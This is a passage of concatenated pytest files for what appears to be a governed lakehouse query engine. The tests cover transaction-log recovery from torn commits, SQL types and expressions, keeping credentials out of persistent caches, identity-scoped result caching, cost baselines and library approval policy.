    catalog = workspace.catalog
    catalog.faults.arm(
        "txn.commit", FaultSpec(kind="raise", probability=1.0)
    )
    monkeypatch.setattr(
        ObjectStore, "delete", lambda self, path, credential: None
    )
    try:
        with pytest.raises(TransactionAbortedError):
            client.sql(sql)
    finally:
        monkeypatch.undo()
        catalog.faults.disarm("txn.commit")


class TestGracefulAbortAtCommit:
    def test_fault_exhaustion_aborts_and_cleans_up(self, workspace, admin):
        catalog = workspace.catalog
        catalog.faults.arm(
            "txn.commit", FaultSpec(kind="raise", probability=1.0)
        )
        try:
            with pytest.raises(TransactionAbortedError):
                admin.sql(f"INSERT INTO {ORDERS} VALUES (3,'US',3.0)")
        finally:
            catalog.faults.disarm("txn.commit")
        # The abort path discarded its staged file; nothing to recover.
        ctx = catalog.principals.context_for("admin")
        report = catalog.txn_manager.recover_table(ctx, ORDERS)
        assert report == {
            "torn_commits_rolled_back": 0,
            "orphan_files_swept": 0,
        }
        assert rows(admin, f"SELECT id FROM {ORDERS}") == [(1,), (2,)]

    def test_transient_commit_fault_is_absorbed(self, workspace, admin):
        catalog = workspace.catalog
        catalog.faults.arm(
            "txn.commit",
            FaultSpec(kind="raise", probability=1.0, max_triggers=2),
        )
        try:
            admin.sql(f"INSERT INTO {ORDERS} VALUES (4,'US',4.0)")
        finally:
            catalog.faults.disarm("txn.commit")
        assert (4,) in rows(admin, f"SELECT id FROM {ORDERS}")
        stats = catalog.txn_manager.stats_snapshot()
        assert stats["retries"] >= 2


class TestKilledWriterRecovery:
    def test_orphan_swept_and_snapshot_durable(
        self, workspace, admin, monkeypatch
    ):
        catalog = workspace.catalog
        table = catalog.get_table(ORDERS)
        storage = catalog.table_storage(table)
        cred = catalog._service_credential
        snap = storage.snapshot(cred)
        durable_version = snap.version
        files_before = {f.path for f in snap.files}

        _kill_writer_at_commit(
            workspace, admin, monkeypatch,
            f"INSERT INTO {ORDERS} VALUES (9,'US',9.0)",
        )

        # The killed writer staged a data file but never claimed a version.
        data_files = set(
            catalog.store.list(f"{table.storage_root}/data/", cred)
        )
        orphans = data_files - files_before
        assert len(orphans) == 1

        # A fresh cluster over the same store resolves the durable tip.
        fresh = workspace.create_standard_cluster(name="fresh").connect(
            "admin"
        )
        assert catalog.current_table_version(ORDERS) == durable_version
        assert rows(fresh, f"SELECT id FROM {ORDERS}") == [(1,), (2,)]

        # Explicit recovery sweeps the orphan; the snapshot is unchanged.
        ctx = catalog.principals.context_for("admin")
        report = catalog.txn_manager.recover_table(ctx, ORDERS)
        assert report["orphan_files_swept"] == 1
        remaining = set(
            catalog.store.list(f"{table.storage_root}/data/", cred)
        )
        assert remaining == files_before
        assert rows(fresh, f"SELECT id FROM {ORDERS}") == [(1,), (2,)]
        stats = catalog.txn_manager.stats_snapshot()
        assert stats["orphans_swept"] >= 1

    def test_torn_tip_skipped_by_readers_and_rolled_back(
        self, workspace, admin
    ):
        catalog = workspace.catalog
        table = catalog.get_table(ORDERS)
        storage = catalog.table_storage(table)
        cred = catalog._service_credential
        durable_version = storage.snapshot(cred).version

        # A crashed writer's partial publish: garbage bytes occupy the
        # next log version (the non-atomic half of a real torn commit).
        torn = durable_version + 1
        catalog.store.put(
            f"{table.storage_root}/_txn_log/{torn:010d}.json",
            b"\x00garbage: interrupted mid-write",
            cred,
        )

        # Readers (and the transaction pin) resolve the durable tip.
        assert storage.snapshot(cred).version == durable_version
        assert catalog.current_table_version(ORDERS) == durable_version
        fresh = workspace.create_standard_cluster(name="fresh2").connect(
            "admin"
        )
        assert rows(fresh, f"SELECT id FROM {ORDERS}") == [(1,), (2,)]

        # Recovery rolls the torn claimant back.
        ctx = catalog.principals.context_for("admin")
        report = catalog.txn_manager.recover_table(ctx, ORDERS)
        assert report["torn_commits_rolled_back"] == 1
        assert storage.latest_version(cred) == durable_version

        # And the table accepts new commits normally afterwards.
        fresh.sql(f"INSERT INTO {ORDERS} VALUES (5,'US',5.0)")
        assert (5,) in rows(fresh, f"SELECT id FROM {ORDERS}")

    def test_new_writer_rolls_torn_tip_back_inline(self, workspace, admin):
        catalog = workspace.catalog
        table = catalog.get_table(ORDERS)
        cred = catalog._service_credential
        storage = catalog.table_storage(table)
        torn = storage.snapshot(cred).version + 1
        catalog.store.put(
            f"{table.storage_root}/_txn_log/{torn:010d}.json",
            b"\x00torn",
            cred,
        )
        # No explicit recovery: the next committer detects the torn
        # claimant at its target version and rolls it back inline.
        admin.sql(f"INSERT INTO {ORDERS} VALUES (6,'US',6.0)")
        assert (6,) in rows(admin, f"SELECT id FROM {ORDERS}")
        snap = storage.snapshot(cred)
        assert snap.version == torn
