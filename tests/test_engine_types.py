"""Tests for engine types, schemas, and the ColumnBatch container."""

import pytest

from repro.engine.batch import ColumnBatch
from repro.engine.types import (
    BOOL,
    FLOAT,
    INT,
    STRING,
    Field,
    Schema,
    common_numeric_type,
    schema_of,
    type_from_name,
)
from repro.errors import AnalysisError, ExecutionError


class TestDataTypes:
    def test_aliases(self):
        assert type_from_name("BIGINT") == INT
        assert type_from_name("double") == FLOAT
        assert type_from_name("varchar") == STRING
        assert type_from_name("Boolean") == BOOL

    def test_unknown_type(self):
        with pytest.raises(AnalysisError):
            type_from_name("decimal")

    def test_accepts(self):
        assert INT.accepts(5)
        assert not INT.accepts(5.0)
        assert not INT.accepts(True)  # bool is not an int in SQL terms
        assert FLOAT.accepts(5)  # ints widen
        assert STRING.accepts(None)  # NULL fits every type

    def test_numeric_widening(self):
        assert common_numeric_type(INT, INT) == INT
        assert common_numeric_type(INT, FLOAT) == FLOAT
        with pytest.raises(AnalysisError):
            common_numeric_type(INT, STRING)


class TestSchema:
    def _schema(self):
        return Schema(
            (
                Field("id", INT, qualifier="t"),
                Field("name", STRING, qualifier="t"),
                Field("id", INT, qualifier="u"),
            )
        )

    def test_unqualified_unique(self):
        assert self._schema().field_index("name") == 1

    def test_unqualified_ambiguous(self):
        with pytest.raises(AnalysisError, match="ambiguous"):
            self._schema().field_index("id")

    def test_qualified_resolution(self):
        assert self._schema().field_index("t.id") == 0
        assert self._schema().field_index("u.id") == 2

    def test_missing(self):
        with pytest.raises(AnalysisError, match="not found"):
            self._schema().field_index("ghost")

    def test_requalify(self):
        schema = schema_of(a=INT).with_qualifier("x")
        assert schema.field_index("x.a") == 0

    def test_concat_and_select(self):
        left = schema_of(a=INT)
        right = schema_of(b=STRING)
        combined = left.concat(right)
        assert combined.names == ["a", "b"]
        assert combined.select([1]).names == ["b"]

    def test_contains(self):
        assert self._schema().contains("name")
        assert not self._schema().contains("ghost")


class TestColumnBatch:
    def _batch(self):
        return ColumnBatch.from_dict(
            schema_of(id=INT, v=FLOAT),
            {"id": [1, 2, 3], "v": [1.0, 2.0, 3.0]},
        )

    def test_from_rows(self):
        batch = ColumnBatch.from_rows(schema_of(a=INT, b=STRING), [(1, "x"), (2, "y")])
        assert batch.columns == [[1, 2], ["x", "y"]]

    def test_from_rows_arity_check(self):
        with pytest.raises(ExecutionError):
            ColumnBatch.from_rows(schema_of(a=INT), [(1, 2)])

    def test_missing_column(self):
        with pytest.raises(ExecutionError):
            ColumnBatch.from_dict(schema_of(a=INT), {"b": [1]})

    def test_ragged_rejected(self):
        with pytest.raises(ExecutionError):
            ColumnBatch(schema_of(a=INT, b=INT), [[1], [1, 2]])

    def test_filter_drops_null_mask(self):
        batch = self._batch()
        filtered = batch.filter([True, None, False])
        assert filtered.to_rows() == [(1, 1.0)]

    def test_take_and_slice(self):
        batch = self._batch()
        assert batch.take([2, 0]).column("id") == [3, 1]
        assert batch.slice(1, 3).column("id") == [2, 3]

    def test_concat(self):
        batch = self._batch()
        double = ColumnBatch.concat(batch.schema, [batch, batch])
        assert double.num_rows == 6

    def test_concat_empty(self):
        empty = ColumnBatch.concat(schema_of(a=INT), [])
        assert empty.num_rows == 0

    def test_to_dict_uses_qualified_names(self):
        schema = Schema((Field("id", INT, qualifier="t"),))
        batch = ColumnBatch(schema, [[1]])
        assert batch.to_dict() == {"t.id": [1]}

    def test_show_renders(self):
        out = self._batch().show()
        assert "id" in out and "1.0" in out

    def test_column_by_name(self):
        assert self._batch().column("v") == [1.0, 2.0, 3.0]
