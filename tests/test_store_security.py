"""Security invariants of the governed persistence tier.

The store persists warmed state across process and cluster boundaries —
exactly the kind of layer that quietly turns into an exfiltration path.
Three invariants hold by construction and are enforced here:

1. **Credentials never touch a persistent tier.** They are pinned
   ``memory_only``; no ``cred/`` key ever appears in the disk spill
   directory or the shared KV, and no vended token's bytes appear anywhere
   in the spill files.
2. **Result bytes are identity-scoped.** A cached result key embeds a
   digest of (user, effective principals, compute id), so one principal's
   governed rows are unreachable through another principal's key — a
   row-filtered user can never be served the unfiltered user's bytes.
3. **Policy changes cut through the cache.** A revoke denies immediately
   even when the store still physically holds the revoked user's results.
"""

from __future__ import annotations

import pickle

from pathlib import Path

import pytest

from repro.errors import PermissionDenied
from repro.platform import Workspace
from repro.storage.credentials import TemporaryCredential
from repro.store import ArtifactStore, DistKVTier, MemoryTier, TieredStore

_SETUP_SQL = (
    "CREATE TABLE main.sales.orders "
    "(id int, region string, amount float, buyer string)",
    "INSERT INTO main.sales.orders VALUES "
    "(1,'US',10.0,'buyer-pii-aaa'),(2,'EU',20.0,'buyer-pii-bbb'),"
    "(3,'US',30.0,'buyer-pii-ccc'),(4,'APAC',40.0,'buyer-pii-ddd')",
    "GRANT USE CATALOG ON main TO analysts",
    "GRANT USE SCHEMA ON main.sales TO analysts",
    "GRANT SELECT ON main.sales.orders TO analysts",
)


def _make_workspace(**kwargs) -> Workspace:
    ws = Workspace(**kwargs)
    ws.add_user("admin", admin=True)
    ws.add_user("alice")
    ws.add_user("bob")
    ws.add_group("analysts", ["alice", "bob"])
    ws.catalog.create_catalog("main", owner="admin")
    ws.catalog.create_schema("main.sales", owner="admin")
    for point in ("store.get", "store.put", "store.evict"):
        ws.catalog.faults.disarm(point)
    return ws


def _seed(cluster):
    admin = cluster.connect("admin")
    for sql in _SETUP_SQL:
        admin.sql(sql)
    return admin


def _spill_bytes(spill_dir: str) -> bytes:
    return b"".join(
        path.read_bytes() for path in sorted(Path(spill_dir).glob("*.lgs"))
    )


class TestCredentialPinning:
    def test_no_credential_material_in_the_spill_directory(self, tmp_path):
        spill = str(tmp_path / "spill")
        ws = _make_workspace(
            store_backend="disk", store_dir=spill, result_cache_enabled=True
        )
        cluster = ws.create_standard_cluster()
        _seed(cluster)
        for user in ("alice", "bob"):
            client = cluster.connect(user)
            client.table("main.sales.orders").collect()
            client.sql(
                "SELECT region, amount FROM main.sales.orders WHERE amount > 0"
            ).collect()

        # Queries did vend credentials and the cache did ride the store.
        vendor = ws.catalog.vendor
        assert vendor.issued_count > 0
        assert cluster.backend.artifact_store.stats.cred_puts > 0

        blob = _spill_bytes(spill)
        assert blob, "expected warmed artifacts in the spill directory"
        for credential in vendor.live_credentials():
            assert credential.token.encode() not in blob
            assert pickle.dumps(credential) not in blob
        # And not even the namespace: no cred/ key in any persistent tier.
        disk = cluster.backend.artifact_store.store.tiers[1]
        assert not [k for k in disk.keys() if k.startswith("cred/")]
        ws.shutdown()

    def test_no_cred_keys_in_a_shared_dist_kv(self):
        ws = _make_workspace(store_backend="distkv", result_cache_enabled=True)
        cluster = ws.create_standard_cluster()
        _seed(cluster)
        alice = cluster.connect("alice")
        alice.table("main.sales.orders").collect()
        assert cluster.backend.artifact_store.stats.cred_puts > 0
        assert not [k for k in ws.dist_kv.keys() if k.startswith("cred/")]
        # The memory tier *does* hold them — that's the pin, not a leak.
        memory = cluster.backend.artifact_store.store.tiers[0]
        assert [k for k in memory.keys() if k.startswith("cred/")]
        ws.shutdown()

    def test_put_credential_is_memory_only_at_the_facade(self):
        kv = DistKVTier()
        store = TieredStore([MemoryTier(), kv])
        artifacts = ArtifactStore(store)
        credential = TemporaryCredential(
            token="cred-deadbeef0123",
            identity="alice",
            prefixes=("s3://bucket/table/",),
            operations=frozenset({"READ"}),
            issued_at=0.0,
            expires_at=900.0,
        )
        artifacts.put_credential(("alice", "t", frozenset(), None), 3, credential)
        assert kv.keys() == []
        got = artifacts.get_credential(("alice", "t", frozenset(), None), 3)
        assert got == credential
        # A different policy epoch is a different key: hard miss.
        assert artifacts.get_credential(("alice", "t", frozenset(), None), 4) is None


class TestResultIsolation:
    def test_row_filtered_user_never_gets_another_users_bytes(self, tmp_path):
        ws = _make_workspace(
            store_backend="disk",
            store_dir=str(tmp_path / "spill"),
            result_cache_enabled=True,
        )
        cluster = ws.create_standard_cluster()
        admin = _seed(cluster)
        # alice sees everything; bob is filtered to his own region.
        admin.sql(
            "ALTER TABLE main.sales.orders SET ROW FILTER "
            "(region = 'US' OR current_user() = 'alice')"
        )
        query = "SELECT id, region, amount FROM main.sales.orders ORDER BY id"
        alice = cluster.connect("alice")
        bob = cluster.connect("bob")
        alice_rows = alice.sql(query).collect()
        assert len(alice_rows) == 4
        cache = cluster.backend.result_cache
        assert cache.stats.stored == 1

        # bob runs the *same text*: different identity digest, hard miss —
        # his result is recomputed under his own row filter.
        bob_rows = bob.sql(query).collect()
        assert cache.stats.hits == 0
        assert cache.stats.stored == 2
        assert len(bob_rows) == 2
        assert {r[1] for r in bob_rows} == {"US"}

        # Replays hit each identity's own entry, still disjoint.
        assert alice.sql(query).collect() == alice_rows
        assert bob.sql(query).collect() == bob_rows
        assert cache.stats.hits == 2
        ws.shutdown()

    def test_revoke_denies_even_with_warm_results_on_disk(self, tmp_path):
        ws = _make_workspace(
            store_backend="disk",
            store_dir=str(tmp_path / "spill"),
            result_cache_enabled=True,
        )
        cluster = ws.create_standard_cluster()
        admin = _seed(cluster)
        alice = cluster.connect("alice")
        query = "SELECT id FROM main.sales.orders"
        alice.sql(query).collect()
        store = cluster.backend.artifact_store.store
        assert [k for k in store.keys() if k.startswith("result/")]

        admin.sql("REVOKE SELECT ON main.sales.orders FROM analysts")
        with pytest.raises(PermissionDenied):
            alice.sql(query).collect()
        # The denial happened at analysis; the result cache never served.
        assert cluster.backend.result_cache.stats.hits == 0
        ws.shutdown()

    def test_masked_results_cache_the_masked_bytes(self, tmp_path):
        ws = _make_workspace(
            store_backend="disk",
            store_dir=str(tmp_path / "spill"),
            result_cache_enabled=True,
        )
        cluster = ws.create_standard_cluster()
        admin = _seed(cluster)
        admin.sql(
            "ALTER TABLE main.sales.orders ALTER COLUMN buyer SET MASK ('***')"
        )
        alice = cluster.connect("alice")
        query = "SELECT id, buyer FROM main.sales.orders ORDER BY id"
        masked = alice.sql(query).collect()
        assert {r[1] for r in masked} == {"***"}
        # What went to disk is the already-masked bytes — raw buyer values
        # exist nowhere in the spill directory.
        blob = _spill_bytes(str(tmp_path / "spill"))
        for suffix in ("aaa", "bbb", "ccc", "ddd"):
            assert f"buyer-pii-{suffix}".encode() not in blob
        assert alice.sql(query).collect() == masked
        assert cluster.backend.result_cache.stats.hits == 1
        ws.shutdown()
