"""Tests for the executable baseline models."""

import pytest

from repro.baselines import (
    InteractiveSession,
    MembraneClusterModel,
    ReplicaGovernance,
    WorkloadPhase,
    simulate_per_user_clusters,
    simulate_shared_cluster,
)
from repro.baselines.membrane import bursty_phases
from repro.baselines.per_user_clusters import working_day_sessions
from repro.errors import ConfigurationError


class TestMembraneModel:
    def _model(self):
        return MembraneClusterModel(total_nodes=10, user_domain_nodes=4)

    def test_balanced_phase_high_utilization(self):
        model = self._model()
        # Work split matching the static 6/4 partition: near-full utilization.
        outcome = model.membrane_phase(WorkloadPhase(engine_work=60, udf_work=40))
        assert outcome.utilization > 0.9

    def test_skewed_phase_wastes_capacity(self):
        model = self._model()
        engine_only = model.membrane_phase(WorkloadPhase(engine_work=100, udf_work=0))
        assert engine_only.utilization <= 0.6 + 1e-9  # 4 user nodes idle

    def test_lakeguard_always_fully_utilized(self):
        model = self._model()
        outcome = model.lakeguard_phase(WorkloadPhase(engine_work=100, udf_work=0))
        assert outcome.utilization == 1.0

    def test_bursty_workload_membrane_loses(self):
        """The §7 claim: variable workloads → Membrane utilization drops."""
        model = self._model()
        phases = bursty_phases(10, engine_heavy_work=100, udf_heavy_work=100)
        comparison = model.compare(phases)
        assert comparison["membrane"].utilization < 0.75
        assert comparison["lakeguard"].utilization == 1.0
        assert comparison["membrane"].makespan > comparison["lakeguard"].makespan

    def test_isolation_overhead_charged_to_lakeguard(self):
        model = MembraneClusterModel(
            total_nodes=10, user_domain_nodes=5, lakeguard_isolation_overhead=1.10
        )
        outcome = model.lakeguard_phase(WorkloadPhase(engine_work=0, udf_work=100))
        assert outcome.makespan == pytest.approx(11.0)

    def test_invalid_split_rejected(self):
        with pytest.raises(ConfigurationError):
            MembraneClusterModel(total_nodes=4, user_domain_nodes=4)


class TestPerUserClusters:
    def test_shared_cluster_beats_per_user_on_node_hours(self):
        sessions = working_day_sessions(num_users=20, busy_fraction=0.15)
        per_user = simulate_per_user_clusters(sessions)
        shared = simulate_shared_cluster(sessions)
        assert shared.node_hours < per_user.node_hours
        assert shared.utilization > per_user.utilization

    def test_per_user_utilization_equals_busy_fraction(self):
        sessions = working_day_sessions(num_users=5, busy_fraction=0.2)
        outcome = simulate_per_user_clusters(sessions)
        assert outcome.utilization == pytest.approx(0.2)

    def test_empty_workload(self):
        outcome = simulate_shared_cluster([])
        assert outcome.node_hours == 0.0

    def test_peak_tracking(self):
        sessions = [
            InteractiveSession("a", 0.0, 2.0, 0.5),
            InteractiveSession("b", 1.0, 3.0, 0.5),
        ]
        per_user = simulate_per_user_clusters(sessions, nodes_per_cluster=1)
        assert per_user.peak_nodes == 2

    def test_scaling_with_users(self):
        """Savings grow with the number of interactive users."""
        small = working_day_sessions(5)
        large = working_day_sessions(50)
        ratio_small = (
            simulate_per_user_clusters(small).node_hours
            / simulate_shared_cluster(small).node_hours
        )
        ratio_large = (
            simulate_per_user_clusters(large).node_hours
            / simulate_shared_cluster(large).node_hours
        )
        assert ratio_large > ratio_small


class TestReplicaGovernance:
    @pytest.fixture
    def setup(self, workspace, standard_cluster, admin_client):
        governance = ReplicaGovernance(
            cluster=standard_cluster,
            admin_client=admin_client,
            source_table="main.sales.orders",
            audience_filters={
                "us_team": "region = 'US'",
                "eu_team": "region = 'EU'",
                "finance": "amount > 15",
            },
        )
        governance.create_replicas()
        return governance

    def test_replicas_materialized(self, setup, workspace):
        cat = workspace.catalog
        assert cat.object_exists("main.sales.orders__for_us_team")
        assert cat.object_exists("main.sales.orders__for_eu_team")

    def test_storage_amplification_measured(self, setup):
        costs = setup.measure()
        assert costs.replicas == 3
        assert costs.storage_amplification > 1.5

    def test_staleness_after_source_update(self, setup, admin_client):
        admin_client.sql("INSERT INTO main.sales.orders VALUES (5,'US',50.0,'p5')")
        costs = setup.measure()
        assert costs.stale_replicas == 3
        setup.refresh_all()
        costs = setup.measure()
        assert costs.stale_replicas == 0

    def test_refresh_compute_accumulates(self, setup):
        before = setup.measure().refresh_rows_processed
        setup.refresh_all()
        assert setup.measure().refresh_rows_processed > before

    def test_fgac_has_no_amplification(self, workspace, standard_cluster, admin_client):
        """The counterfactual: row filters add zero storage."""
        cat = workspace.catalog
        source = cat.get_table("main.sales.orders")
        before = cat.store.total_bytes(source.storage_root)
        admin_client.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")
        assert cat.store.total_bytes(source.storage_root) == before


class TestExternalFilterBaseline:
    def test_aggregate_not_pushed_by_scanonly_service(
        self, workspace, standard_cluster, admin_client
    ):
        """LakeFormation-style service ships rows; Lakeguard ships states."""
        from repro.baselines.external_filter import external_filter_rules
        from repro.core.efgac import efgac_rules

        admin_client.sql("ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')")

        def run_with(rules, name):
            ded = workspace.create_dedicated_cluster(
                assigned_user="alice", name=name
            )
            # Swap the optimizer rule set for the baseline.
            original = ded.backend.engine_for

            def engine_for(session, _original=original, _rules=rules):
                engine = _original(session)
                engine._extra_rules = tuple(_rules)
                return engine

            ded.backend.engine_for = engine_for
            client = ded.connect("alice")
            client.sql(
                "SELECT region, sum(amount) AS t FROM main.sales.orders GROUP BY region"
            ).collect()
            return ded.backend.remote_executor.stats.rows_received

        lakeguard_rows = run_with(efgac_rules(), "lg")
        scanonly_rows = run_with(external_filter_rules(), "lf")
        assert lakeguard_rows <= scanonly_rows
