"""Tests for expression evaluation semantics."""

import pytest

from repro.engine.batch import ColumnBatch
from repro.engine.expressions import (
    Alias,
    Arithmetic,
    BooleanOp,
    BoundRef,
    CaseWhen,
    Cast,
    Comparison,
    CurrentUser,
    EvalContext,
    FunctionCall,
    InList,
    IsAccountGroupMember,
    IsNull,
    Not,
    PythonUDFCall,
    bind_expression,
    col,
    contains_user_code,
    lit,
)
from repro.engine.types import BOOL, FLOAT, INT, STRING, schema_of
from repro.engine.udf import udf
from repro.errors import AnalysisError

SCHEMA = schema_of(a=INT, b=FLOAT, s=STRING)
BATCH = ColumnBatch.from_dict(
    SCHEMA, {"a": [1, 2, None], "b": [1.5, None, 3.0], "s": ["x", "Y", None]}
)
CTX = EvalContext(user="alice", groups=frozenset({"analysts"}))


def ev(expr):
    return bind_expression(expr, SCHEMA).eval(BATCH, CTX)


class TestLiteralsAndRefs:
    def test_literal_broadcast(self):
        assert ev(lit(7)) == [7, 7, 7]

    def test_literal_type_inference(self):
        assert lit(1).dtype == INT
        assert lit(1.5).dtype == FLOAT
        assert lit(True).dtype == BOOL
        assert lit("x").dtype == STRING

    def test_unsupported_literal(self):
        with pytest.raises(AnalysisError):
            lit(object())

    def test_column_binding(self):
        bound = bind_expression(col("a"), SCHEMA)
        assert isinstance(bound, BoundRef)
        assert bound.index == 0
        assert bound.dtype == INT

    def test_unknown_column(self):
        with pytest.raises(AnalysisError):
            bind_expression(col("ghost"), SCHEMA)


class TestArithmetic:
    def test_add(self):
        assert ev(Arithmetic("+", col("a"), lit(10))) == [11, 12, None]

    def test_null_propagation(self):
        assert ev(Arithmetic("*", col("a"), col("b"))) == [1.5, None, None]

    def test_divide_by_zero_is_null(self):
        assert ev(Arithmetic("/", lit(1), lit(0))) == [None] * 3

    def test_modulo_by_zero_is_null(self):
        assert ev(Arithmetic("%", lit(5), lit(0))) == [None] * 3

    def test_string_concat_plus(self):
        assert ev(Arithmetic("+", col("s"), lit("!")))[:2] == ["x!", "Y!"]

    def test_division_always_float(self):
        expr = bind_expression(Arithmetic("/", col("a"), lit(2)), SCHEMA)
        assert expr.dtype == FLOAT

    def test_type_widening(self):
        expr = bind_expression(Arithmetic("+", col("a"), col("b")), SCHEMA)
        assert expr.dtype == FLOAT

    def test_unknown_operator(self):
        with pytest.raises(AnalysisError):
            Arithmetic("**", lit(1), lit(2))


class TestComparisons:
    def test_gt(self):
        assert ev(Comparison(">", col("a"), lit(1))) == [False, True, None]

    def test_null_comparison_is_null(self):
        assert ev(Comparison("=", col("a"), lit(None)))[0] is None

    def test_three_valued_and(self):
        # FALSE AND NULL = FALSE; TRUE AND NULL = NULL.
        false_and_null = BooleanOp("AND", lit(False), Comparison("=", col("a"), lit(None)))
        assert ev(false_and_null) == [False, False, False]
        true_and_null = BooleanOp("AND", lit(True), Comparison("=", col("a"), lit(None)))
        assert ev(true_and_null) == [None, None, None]

    def test_three_valued_or(self):
        true_or_null = BooleanOp("OR", lit(True), Comparison("=", col("a"), lit(None)))
        assert ev(true_or_null) == [True, True, True]
        false_or_null = BooleanOp("OR", lit(False), Comparison("=", col("a"), lit(None)))
        assert ev(false_or_null) == [None, None, None]

    def test_not_null(self):
        assert ev(Not(Comparison("=", col("a"), lit(None)))) == [None] * 3

    def test_is_null(self):
        assert ev(IsNull(col("a"))) == [False, False, True]
        assert ev(IsNull(col("a"), negated=True)) == [True, True, False]

    def test_in_list(self):
        assert ev(InList(col("a"), (1, 3))) == [True, False, None]
        assert ev(InList(col("a"), (1,), negated=True)) == [False, True, None]


class TestCaseAndCast:
    def test_case_when(self):
        expr = CaseWhen(
            [(Comparison(">", col("a"), lit(1)), lit("big"))], lit("small")
        )
        assert ev(expr) == ["small", "big", "small"]

    def test_case_without_else_defaults_null(self):
        expr = CaseWhen([(Comparison(">", col("a"), lit(1)), lit("big"))])
        assert ev(expr) == [None, "big", None]

    def test_first_matching_branch_wins(self):
        expr = CaseWhen(
            [
                (Comparison(">", col("a"), lit(0)), lit("pos")),
                (Comparison(">", col("a"), lit(1)), lit("big")),
            ],
            lit("other"),
        )
        assert ev(expr) == ["pos", "pos", "other"]

    def test_cast_int_to_string(self):
        assert ev(Cast(col("a"), STRING)) == ["1", "2", None]

    def test_cast_string_to_bool(self):
        assert ev(Cast(lit("true"), BOOL)) == [True] * 3

    def test_cast_float_to_int(self):
        assert ev(Cast(col("b"), INT)) == [1, None, 3]


class TestFunctions:
    def test_upper_lower(self):
        assert ev(FunctionCall("upper", (col("s"),))) == ["X", "Y", None]
        assert ev(FunctionCall("lower", (col("s"),))) == ["x", "y", None]

    def test_coalesce(self):
        assert ev(FunctionCall("coalesce", (col("a"), lit(0)))) == [1, 2, 0]

    def test_sha256_deterministic(self):
        out = ev(FunctionCall("sha256", (col("s"),)))
        assert out[0] == ev(FunctionCall("sha256", (col("s"),)))[0]
        assert out[2] is None

    def test_concat(self):
        assert ev(FunctionCall("concat", (lit("a"), lit("b")))) == ["ab"] * 3

    def test_substring(self):
        assert ev(FunctionCall("substring", (lit("hello"), lit(2), lit(3)))) == ["ell"] * 3

    def test_unknown_function(self):
        with pytest.raises(AnalysisError, match="unknown function"):
            FunctionCall("no_such_fn", ())

    def test_length(self):
        assert ev(FunctionCall("length", (col("s"),))) == [1, 1, None]


class TestSessionExpressions:
    def test_current_user(self):
        assert ev(CurrentUser()) == ["alice"] * 3

    def test_group_member_true(self):
        assert ev(IsAccountGroupMember("analysts")) == [True] * 3

    def test_group_member_false(self):
        assert ev(IsAccountGroupMember("hr")) == [False] * 3

    def test_session_expressions_are_deterministic(self):
        # Deterministic *within* a query — but still never folded/pushed
        # below barriers because they are session-dependent.
        assert CurrentUser().deterministic


class TestUserCodeClassification:
    def test_udf_call_is_user_code(self):
        @udf("int")
        def f(x):
            return x

        expr = f(col("a"))
        assert isinstance(expr, PythonUDFCall)
        assert contains_user_code(expr)
        assert contains_user_code(Arithmetic("+", expr, lit(1)))

    def test_builtins_are_not_user_code(self):
        assert not contains_user_code(FunctionCall("upper", (col("s"),)))

    def test_nondeterministic_udf(self):
        @udf("int", deterministic=False)
        def g(x):
            return x

        assert not g(col("a")).deterministic

    def test_udf_eval_inline(self):
        @udf("int")
        def double(x):
            return None if x is None else x * 2

        assert ev(double(col("a"))) == [2, 4, None]

    def test_alias_passthrough(self):
        aliased = Alias(Arithmetic("+", col("a"), lit(1)), "a1")
        bound = bind_expression(aliased, SCHEMA)
        assert bound.output_name() == "a1"
        assert bound.eval(BATCH, CTX) == [2, 3, None]
