"""Tests for engine-library approvals, ownership transfer, and client API
coverage (interrupt, joins through the client, to_dict)."""

import pytest

from repro.errors import PermissionDenied, SecurableNotFound
from repro.platform.libraries import EngineLibraryPolicy


class TestEngineLibraryPolicy:
    @pytest.fixture
    def policy(self):
        return EngineLibraryPolicy(
            workspace_admins={"ws_admin"}, cluster_admins={"cl_admin"}
        )

    def test_load_requires_both_approvals(self, policy):
        policy.approve("spark-nlp", "ws_admin")
        with pytest.raises(PermissionDenied, match="cluster_admin"):
            policy.load("spark-nlp")
        policy.approve("spark-nlp", "cl_admin")
        policy.load("spark-nlp")
        assert policy.loaded_libraries() == ["spark-nlp"]

    def test_non_admin_cannot_approve(self, policy):
        with pytest.raises(PermissionDenied):
            policy.approve("anything", "random_user")

    def test_single_role_twice_is_not_enough(self, policy):
        policy.approve("lib", "ws_admin")
        policy.approve("lib", "ws_admin")
        assert not policy.is_approved("lib")

    def test_revocation_unloads(self, policy):
        policy.approve("lib", "ws_admin")
        policy.approve("lib", "cl_admin")
        policy.load("lib")
        policy.revoke_approval("lib", "workspace_admin")
        assert "lib" not in policy.loaded_libraries()
        with pytest.raises(PermissionDenied):
            policy.load("lib")

    def test_approvals_recorded_with_identity(self, policy):
        policy.approve("lib", "ws_admin")
        approvals = policy.approvals_of("lib")
        assert approvals[0].approver == "ws_admin"
        assert approvals[0].role == "workspace_admin"


class TestOwnershipTransfer:
    def test_transfer_moves_all_implicit_rights(
        self, workspace, standard_cluster, admin_client
    ):
        cat = workspace.catalog
        admin_ctx = cat.principals.context_for("admin")
        cat.transfer_ownership("main.sales.orders", "alice", admin_ctx)
        alice_ctx = cat.principals.context_for("alice")
        # alice now holds implicit MODIFY.
        assert cat.has_privilege(alice_ctx, "MODIFY", "main.sales.orders")
        # And can manage policies herself.
        from repro.catalog.policies import RowFilter
        from repro.sql.parser import parse_expression

        cat.set_row_filter(
            "main.sales.orders",
            RowFilter("main.sales.orders", parse_expression("region = 'US'"), "alice"),
            alice_ctx,
        )

    def test_transfer_requires_authority(self, workspace, standard_cluster, admin_client):
        cat = workspace.catalog
        bob_ctx = cat.principals.context_for("bob")
        with pytest.raises(PermissionDenied):
            cat.transfer_ownership("main.sales.orders", "bob", bob_ctx)

    def test_transfer_to_unknown_principal(self, workspace, standard_cluster, admin_client):
        cat = workspace.catalog
        admin_ctx = cat.principals.context_for("admin")
        with pytest.raises(SecurableNotFound):
            cat.transfer_ownership("main.sales.orders", "ghost", admin_ctx)

    def test_transfer_to_group(self, workspace, standard_cluster, admin_client):
        cat = workspace.catalog
        admin_ctx = cat.principals.context_for("admin")
        cat.transfer_ownership("main.sales.orders", "analysts", admin_ctx)
        alice_ctx = cat.principals.context_for("alice")  # member of analysts
        assert cat.has_privilege(alice_ctx, "MODIFY", "main.sales.orders")


class TestClientApiCoverage:
    def test_semi_and_anti_join_via_client(self, workspace, standard_cluster, admin_client):
        from repro.connect.client import col

